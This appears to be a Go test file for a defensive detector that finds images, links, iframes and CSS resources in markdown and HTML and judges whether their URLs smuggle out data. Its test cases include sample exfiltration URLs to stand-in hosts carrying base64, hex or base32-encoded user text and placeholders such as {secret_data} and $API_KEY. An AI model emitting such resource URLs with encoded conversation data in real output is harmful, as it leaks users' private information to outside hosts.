package exfil

import (
	"encoding/base32"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"net/url"
	"slices"
	"strings"
	"testing"
)

const said = "the user said hello to the porter"

func TestResources(t *testing.T) {
	tests := []struct {
		in   string
		want []string // kind and what to cut
	}{
		{"a ![t](https://x.example/p.gif) b", []string{"4 ![t](https://x.example/p.gif)"}},
		{"![a](<https://x.example/p.gif> \"title\")", []string{"4 ![a](<https://x.example/p.gif> \"title\")"}},
		{"[t [u]](https://x.example/a(b)c).", []string{"1 [t [u]](https://x.example/a(b)c)"}},
		{"![a][r] c\n[r]: https://x.example/p.gif\nend", []string{"4 ![a][r]", "4 [r]: https://x.example/p.gif"}},
		{"![R][] c\n\n [r]: <https://x.example/p.gif>", []string{"4 ![R][]", "4 [r]: <https://x.example/p.gif>"}},
		{"[a][r]\n[r]: https://x.example/", []string{"1 [a][r]", "1 [r]: https://x.example/"}},
		{"<IMG width=1 SRC='https://x.example/p.gif'/> d", []string{"4 <IMG width=1 SRC='https://x.example/p.gif'/>"}},
		{"<img src=//x.example/p.gif>", []string{"4 <img src=//x.example/p.gif>"}},
		{"<a href=\"https://x.example\">t</a>", []string{"1 <a href=\"https://x.example\">"}},
		{"<iframe src='https://x.example'></iframe>", []string{"3 <iframe src='https://x.example'>"}},
		{"<video poster='https://x.example/p'>", []string{"4 <video poster='https://x.example/p'>"}},
		{"<div style=\"background:url(https://x.example/p)\">", []string{"2 <div style=\"background:url(https://x.example/p)\">"}},
		{"p{background:url('https://x.example/p')}", []string{"2 url('https://x.example/p')"}},
		{"@import \"https://x.example/p.css\";", []string{"2 @import \"https://x.example/p.css\""}},
		{"[a] (https://x.example/a)", []string{"0 https://x.example/a"}},
		{"a]: https://x.example/a", []string{"0 https://x.example/a"}},
		{"img src=https://x.example/p", []string{"0 https://x.example/p"}},
		{"see <https://x.example/a>, https://y.example/b.", []string{"0 <https://x.example/a>", "0 https://y.example/b"}},
		{"// a comment // another; a // b, file:///etc/hosts, x://y", nil},
		{"", nil},
	}
	for _, tt := range tests {
		var got []string
		text := []byte(tt.in)
		for _, r := range AppendResources(nil, text, AppendURLs(nil, text)) {
			got = append(got, fmt.Sprint(r.Kind, " ", tt.in[r.Start:r.End]))
		}
		if !slices.Equal(got, tt.want) {
			t.Errorf("AppendResources(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestCarries(t *testing.T) {
	b := []byte(said)
	tests := []struct {
		in   string
		want Payload
	}{
		{"https://x.example/p?d=" + base64.StdEncoding.EncodeToString(b), Encoded},
		{"https://x.example/p?d=" + base64.RawURLEncoding.EncodeToString(b), Encoded},
		{"https://x.example/p?d=" + url.QueryEscape(base64.StdEncoding.EncodeToString(b)), Encoded},
		{"https://x.example/" + hex.EncodeToString(b) + ".png", Encoded},
		{"https://" + strings.ToLower(strings.TrimRight(base32.StdEncoding.EncodeToString(b), "=")) + ".x.example/", Encoded},
		{"https://x.example/p?q=" + url.QueryEscape(said), Sentence},
		{"https://x.example/p?q=" + url.PathEscape(said), Sentence},
		{"https://x.example/{secret_data}.png", Placeholder},
		{"https://x.example/p?k=$API_KEY", Placeholder},
		{"https://x.example/p?k=$PAGE_NUMBER", NoPayload},
		{"https://x.example/p?d=" + hex.EncodeToString([]byte("porter")), NoPayload},
		{"https://x.example/p?d=" + base64.StdEncoding.EncodeToString([]byte("the user\x01said\x02to the\x03porter\x04and so on")), NoPayload},
		{"https://x.example/p?d=" + base64.StdEncoding.EncodeToString([]byte("it was said: hello, twice. (to the porter)")), Encoded},
		{"https://x.example/p?d=" + base64.StdEncoding.EncodeToString([]byte(said+"\tat\r\nnoon")), Encoded},
		{"https://x.example/p?d=" + strings.Repeat("q8Zk3", 30), Opaque},
		{"https://img.example/badge/build-passing-green.svg", NoPayload},
		{"https://x.example/u/1234567?v=4&s=40", NoPayload},
		{"https://x.example/9e107d9d372bb6826bd81d3542a419d69e107d9d372bb6826bd81d3542a419d6.png", NoPayload},
		{"https://x.example/a.png?X-Amz-Security-Token=" + strings.Repeat("q8Zk3", 40), NoPayload},
		{"https://x.example/600x400?text=Hello+World", NoPayload},
		{"https://x.example/how-to-write-unmaintainable-code-and-keep-a-job-for-life", NoPayload},
		{"https://x.example/lib/jquery.min.slim.bundle.vendor.js", NoPayload},
		{"https://x.example/users/{id}/items", NoPayload},
		{"https://x.example/#" + base64.StdEncoding.EncodeToString(b), NoPayload},
	}
	for _, tt := range tests {
		text := []byte(tt.in)
		got := NoPayload
		for _, u := range AppendURLs(nil, text) {
			for _, p := range u.AppendParts(nil, text) {
				got = max(got, PayloadOf(text, p))
			}
		}
		if got != tt.want {
			t.Errorf("PayloadOf of %q = %d, want %d", tt.in, got, tt.want)
		}
	}
}

// Random bytes and words are no encoded text.
func TestCarriesNoise(t *testing.T) {
	x, found := uint64(1), 0
	for range 20000 {
		var b [24]byte
		for i := range b {
			x = x*6364136223846793005 + 1442695040888963407
			b[i] = byte(x >> 56)
		}
		text := []byte("https://x.example/" + base64.RawURLEncoding.EncodeToString(b[:]))
		u := AppendURLs(nil, text)[0]
		for _, p := range u.AppendParts(nil, text) {
			if PayloadOf(text, p) != NoPayload {
				found++
			}
		}
	}
	if found > 0 {
		t.Errorf("%d of 20000 random names carry something, want 0", found)
	}
}

func FuzzResources(f *testing.F) {
	for _, s := range []string{"![a](https://x.y/?a=b&c)", "[r]: //x.y\n![r]", "<img src=//x.y", "url(ftp://a@b:1/c#d?e", "http://[::1]:80/", "](//](//"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, in string) {
		text := []byte(in)
		for _, r := range AppendResources(nil, text, AppendURLs(nil, text)) {
			u := r.URL
			if r.Start < 0 || r.Start > r.End || r.End > len(in) || u.Start > u.HostStart || u.HostStart > u.HostEnd || u.HostEnd > u.PathStart ||
				u.PathStart > u.QueryStart || u.QueryStart > u.FragStart || u.FragStart > u.End || u.End > len(in) {
				t.Fatalf("AppendResources(%q) = %+v", in, r)
			}
			for _, p := range u.AppendParts(nil, text) {
				if p.Start > p.End || p.End > u.End {
					t.Fatalf("AppendParts of %q = %+v", in, p)
				}
				PayloadOf(text, p)
			}
		}
	})
}
